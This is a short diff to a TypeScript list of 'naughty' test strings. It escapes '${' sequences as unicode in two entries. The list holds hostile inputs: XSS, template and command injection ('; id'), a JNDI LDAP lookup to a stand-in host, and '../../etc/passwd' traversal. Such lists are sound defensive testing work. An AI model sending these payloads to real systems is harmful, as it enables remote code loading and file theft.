@@ -74,7 +74,7 @@ export const naughty: string[] = [
     'javascript:alert(1)',
   ],
   ...[
-    '${7*7}',
+    '$\u007b7*7}',
     '{{7*7}}',
     '#{7*7}',
     '<%= 7*7 %>',
@@ -83,7 +83,7 @@ export const naughty: string[] = [
     '`id`',
     '| id',
     '; id',
-    '${jndi:ldap://x.example/a}',
+    '$\u007bjndi:ldap://x.example/a}',
   ],
   ...[
     '../../etc/passwd',
